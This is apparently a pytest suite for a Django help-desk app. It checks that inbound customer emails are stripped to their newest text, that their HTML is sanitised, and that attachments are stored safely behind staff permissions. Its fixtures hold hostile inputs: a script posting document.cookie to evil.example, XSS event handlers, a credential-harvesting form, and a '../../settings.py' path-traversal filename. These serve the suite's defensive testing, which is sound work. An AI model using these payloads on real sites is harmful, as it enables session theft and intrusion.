"""M7, M14, M17: what a customer's email becomes in the thread. Its newest text only (quoted
history and signature stripped), its HTML sanitised (nothing that runs, loads or tracks), and
E3 counts what is visible of it; its files kept through Django's storage up to
ATTACHMENT_MAX_BYTES, listed on the part and downloadable by staff only.
"""

import pytest
from django.contrib.auth.models import Permission
from django.core.files.storage import default_storage

from conversations import services
from conversations.text import visible_text
from mail.content import ATTACHMENT_ONLY
from mail.inbound import mail_receive
from mail.models import Attachment
from ratings.selectors import rating_decision
from tests.email_channel.support import eml, reply_to
from tests.factories import UserFactory
from tests.outbox import replies

CORA = "Cora User <cora@example.com>"
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 3
LIMIT = 1000
# A file's name never holds a path: its slashes are made underscores.
HOSTILE_NAME = "<script>alert(1)<_script>.html"


def _part(raw: bytes):
    received = mail_receive(message=raw)
    assert received.outcome in ("created", "joined"), received.reason
    return received.part


# --- M7, M17: the HTML, sanitised ---------------------------------------------------------------

HOSTILE_HTML = (
    "<html><head><title>t</title><style>p { color: red }</style></head><body>"
    "<p>Hello <b>world</b></p>"
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    '<img src="https://tracker.example/open.gif" width="1" height="1">'
    '<img src="x" onerror="alert(1)">'
    '<a href="javascript:alert(2)" onclick="alert(3)">click</a>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/"><input name="password"></form>'
    "</body></html>"
)


def test_M17_html_mail_is_sanitised(db):
    part = _part(eml(text=None, html=HOSTILE_HTML))

    assert part.body == '<p>Hello <b>world</b></p><a rel="noopener noreferrer nofollow">click</a>'
    for hostile in ("script", "onerror", "onclick", "javascript:", "tracker.example", "<img"):
        assert hostile not in part.body
    for hostile in ("evil.example", "<iframe", "<form", "<input", "<style", "color: red"):
        assert hostile not in part.body


def test_M17_safe_links_and_formatting_are_kept(db):
    html = '<p>See <a href="https://example.com/docs">the docs</a></p><ul><li>one</li></ul>'
    part = _part(eml(text=None, html=html))

    assert 'href="https://example.com/docs"' in part.body
    assert "<ul><li>one</li></ul>" in part.body


def test_M7_html_is_kept_as_html_when_nothing_was_cut(db):
    """Its text alternative says the same words: the customer's formatting stays."""
    part = _part(eml(text="Hello\n\nWorld, really", html="<p>Hello</p><p>World, <b>really</b></p>"))
    assert part.body == "<p>Hello</p><p>World, <b>really</b></p>"


def test_M7_E3_counts_the_visible_text_of_an_html_mail(db):
    part = _part(eml(text=None, html=HOSTILE_HTML))

    conversation = part.conversation
    assert visible_text(part.body) == "Hello worldclick"
    assert conversation.reply_characters == len("Hello worldclick")


@pytest.mark.parametrize("reply, rule", [(234, "E3"), (235, "")])
def test_M7_E3_the_boundary_markup_and_hidden_text_never_count(
    contact, teammate, capture, reply, rule
):
    """16 visible characters from the customer; the teammate's reply makes 250 (not enough) or
    251 (enough), whatever the length of the HTML around them."""
    part = _part(eml(sender=CORA, text=None, html=HOSTILE_HTML))
    conversation = part.conversation
    with capture(execute=True):
        services.conversation_reply(conversation=conversation, author=teammate, body="r" * reply)
        services.conversation_close(conversation=conversation, by=teammate)

    conversation.refresh_from_db()
    assert conversation.reply_characters == 16 + reply
    decision = rating_decision(conversation=conversation)
    assert decision.rule == rule
    assert decision.status == ("skipped" if rule else "sent")


# --- M7: the newest text only -------------------------------------------------------------------

GMAIL_ATTRIBUTION = (
    "On Mon, 10 Mar 2025 at 09:00, Tess Mate via Support <support@example.com> wrote:"
)
GMAIL_HTML = (
    '<div dir="ltr">Thanks, <b>that</b> worked!</div><br>'
    '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
    "On Mon, 10 Mar 2025 at 09:00, Tess Mate via Support &lt;support@example.com&gt; wrote:<br>"
    '</div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex">'
    "Could you try again now?<br>-- <br>Tess Mate</blockquote></div>"
)


def test_M7_a_plain_reply_loses_its_quoted_history(db):
    text = f"Thanks, that worked!\n\n{GMAIL_ATTRIBUTION}\n> Could you try again now?\n> Tess\n"
    assert _part(eml(text=text)).body == "Thanks, that worked!"


def test_M7_a_signature_is_stripped(db):
    text = "Thanks, that worked!\n\n-- \nAnn Customer\nACME Corp, 1 Main Street\n"
    assert _part(eml(text=text)).body == "Thanks, that worked!"


def test_M7_a_list_the_customer_wrote_is_not_a_signature(db):
    """Lines that start with "- " are list items: kept, with what follows them; the "-- "
    signature after them is still stripped."""
    text = "Steps:\n- open the app\n- click Export\nNothing happens.\n\n-- \nAnn\nACME Corp\n"
    body = _part(eml(text=text)).body
    assert visible_text(body) == "Steps:\n- open the app\n- click Export\nNothing happens."


def test_M7_gmails_html_and_text_lose_the_quote_and_the_attribution(db):
    text = f"Thanks, that worked!\n\n{GMAIL_ATTRIBUTION}\n\n> Could you try again now?\n"
    body = _part(eml(text=text, html=GMAIL_HTML)).body
    assert visible_text(body).strip() == "Thanks, that worked!"


def test_M7_an_html_only_reply_loses_the_blockquote_and_the_attribution(db):
    body = _part(eml(text=None, html=GMAIL_HTML)).body

    assert "Could you try again now?" not in body
    assert "wrote:" not in body
    assert visible_text(body).strip() == "Thanks, that worked!"


def test_M7_E3_counts_only_the_newest_text_of_a_reply_to_our_email(contact, teammate, capture):
    conversation = _part(eml(sender=CORA, text="Export broken")).conversation
    with capture(execute=True):
        services.conversation_reply(
            conversation=conversation, author=teammate, body="Please try again. " * 10
        )
    conversation.refresh_from_db()
    before = conversation.reply_characters

    part = _part(reply_to(replies()[-1], text="Still broken.", sender=CORA))

    assert part.body == "Still broken."
    conversation.refresh_from_db()
    assert conversation.reply_characters == before + len("Still broken.")


# --- M14: attachments ---------------------------------------------------------------------------


@pytest.fixture
def with_files(db, settings):
    settings.ATTACHMENT_MAX_BYTES = LIMIT
    files = [
        ("report.pdf", "application/pdf", PDF),
        ("exactly.bin", "application/octet-stream", b"e" * LIMIT),
        ("dump.bin", "application/octet-stream", b"d" * (LIMIT + 1)),
        ("../../settings.py", "text/x-python", b"SECRET = 1\n"),
        ("<script>alert(1)</script>.html", "text/html", b"<script>alert(1)</script>"),
    ]
    return _part(eml(sender=CORA, text="Logs attached.", attachments=files))


def test_M14_files_are_stored_through_the_storage_up_to_the_limit(with_files):
    part = with_files
    assert part.body == "Logs attached."
    found = {a.filename: a for a in Attachment.objects.filter(part=part)}
    assert sorted(found) == sorted(
        [
            "report.pdf",
            "exactly.bin",
            "dump.bin",
            ".._.._settings.py",
            HOSTILE_NAME,
        ]
    )
    for attachment, data in [(found["report.pdf"], PDF), (found["exactly.bin"], b"e" * LIMIT)]:
        assert attachment.stored
        assert attachment.size == len(data)
        assert attachment.file.name.startswith(f"attachments/{part.conversation_id}/{part.pk}/")
        assert default_storage.exists(attachment.file.name)
        with default_storage.open(attachment.file.name, "rb") as stored:
            assert stored.read() == data
    assert found["report.pdf"].content_type == "application/pdf"

    too_large = found["dump.bin"]
    assert (too_large.stored, too_large.size, too_large.file.name) == (False, LIMIT + 1, "")

    escaped = found[".._.._settings.py"]
    assert escaped.file.name.startswith(f"attachments/{part.conversation_id}/{part.pk}/")
    assert "/../" not in escaped.file.name


@pytest.mark.parametrize("name", ["..", ".", "   ", "\x00"])
def test_M14_a_file_named_nothing_is_still_kept_with_its_message(db, name):
    """The storage refuses "." and "..": the file gets a name, the message stays a part."""
    received = mail_receive(message=eml(text="See file", attachments=[(name, "text/plain", b"x")]))

    assert received.outcome == "created", received.reason
    attachment = Attachment.objects.get(part=received.part)
    assert attachment.filename == "attachment-2"  # the message's second part
    assert attachment.stored
    assert default_storage.exists(attachment.file.name)


def test_M14_a_message_with_only_a_file_says_so(db):
    part = _part(eml(text=None, attachments=[("scan.pdf", "application/pdf", PDF)]))
    assert part.body == ATTACHMENT_ONLY
    assert Attachment.objects.get(part=part).stored


def _page(client, part) -> str:
    response = client.get(f"/admin/conversations/conversation/{part.conversation_id}/change/")
    assert response.status_code == 200
    return response.content.decode()


def _download(attachment) -> str:
    return f"/admin/mail/attachment/{attachment.pk}/download/"


def test_M14_the_files_are_listed_on_the_part_for_staff(with_files, teammate, client):
    client.force_login(teammate.user)
    page = _page(client, with_files)

    pdf = Attachment.objects.get(filename="report.pdf")
    assert f'<a href="{_download(pdf)}">report.pdf</a>' in page
    assert "Attached: dump.bin (1001\xa0bytes, not kept: over ATTACHMENT_MAX_BYTES)" in page
    assert "&lt;script&gt;alert(1)&lt;_script&gt;.html" in page
    assert "<script>alert(1)</script>" not in page


def test_M14_staff_download_a_file_and_never_see_it_inline(with_files, teammate, client):
    client.force_login(teammate.user)
    for name, data in [("report.pdf", PDF), (HOSTILE_NAME, None)]:
        attachment = Attachment.objects.get(filename=name)
        response = client.get(_download(attachment))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"].startswith("attachment;")
        content = b"".join(response.streaming_content)
        assert content == (data or b"<script>alert(1)</script>")

    too_large = Attachment.objects.get(filename="dump.bin")
    assert client.get(_download(too_large)).status_code == 404


def test_M14_files_are_refused_to_anyone_without_the_permission(with_files, client):
    pdf = Attachment.objects.get(filename="report.pdf")

    anonymous = client.get(_download(pdf))
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/admin/login/")

    staff = UserFactory(is_staff=True)  # sees conversations, not their files
    staff.user_permissions.add(Permission.objects.get(codename="view_conversation"))
    client.force_login(staff)
    assert client.get(_download(pdf)).status_code == 403
    assert "report.pdf" not in _page(client, with_files)
